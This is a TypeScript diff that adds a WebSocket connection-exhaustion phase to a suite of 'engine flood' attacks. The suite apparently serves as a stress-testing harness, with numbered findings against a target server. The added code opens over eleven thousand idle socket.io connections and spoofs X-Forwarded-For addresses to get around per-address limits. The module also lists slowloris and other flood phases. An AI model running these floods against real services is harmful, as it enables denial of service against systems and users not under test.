@@ -85,6 +85,38 @@ const idleEngines: Phase = {
   },
 };
 
+/** As many as one address may open at once, of each of so many; together more than the process takes. */
+const SOCKETS_OF_ADDRESS = 850;
+const ADDRESSES = 13;
+
+const stayingSockets: Phase = {
+  name: 'stayingSockets',
+  says: '11 050 sockets of thirteen addresses that connect, answer pings and ask for nothing',
+  finding: 13,
+  weight: 2,
+  async run(attack) {
+    const sockets: WebSocket[] = [];
+    const url = `${attack.target.url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`;
+    for (let count = 0; count < SOCKETS_OF_ADDRESS * ADDRESSES && isTime(attack); count += 1) {
+      const headers = { 'x-forwarded-for': `10.18.0.${(count % ADDRESSES) + 1}` };
+      const socket = new WebSocket(url, { headers, perMessageDeflate: false });
+      attack.tally.send('socket');
+      socket.on('open', () => socket.send(`40{"protocol":${PROTOCOL}}`));
+      socket.on('message', (data: Buffer) => {
+        const text = data.toString();
+        if (text === '2') socket.send('3');
+        else if (text.startsWith('40')) attack.tally.answer('connected');
+      });
+      socket.on('error', (error) => attack.tally.answer(error.message));
+      socket.on('close', () => attack.tally.answer('closed'));
+      sockets.push(socket);
+      if (count % 20 === 0) await pause(15);
+    }
+    while (isTime(attack)) await pause(500);
+    for (const socket of sockets) socket.terminate();
+  },
+};
+
 const unreadPolling: Phase = {
   name: 'unreadPolling',
   says: 'clients by polling that ask and never fetch an answer',
@@ -175,4 +207,11 @@ const mediaTcp: Phase = {
   },
 };
 
-export const engineFloods = [connectPackets, idleEngines, unreadPolling, slowloris, mediaTcp];
+export const engineFloods = [
+  connectPackets,
+  idleEngines,
+  stayingSockets,
+  unreadPolling,
+  slowloris,
+  mediaTcp,
+];
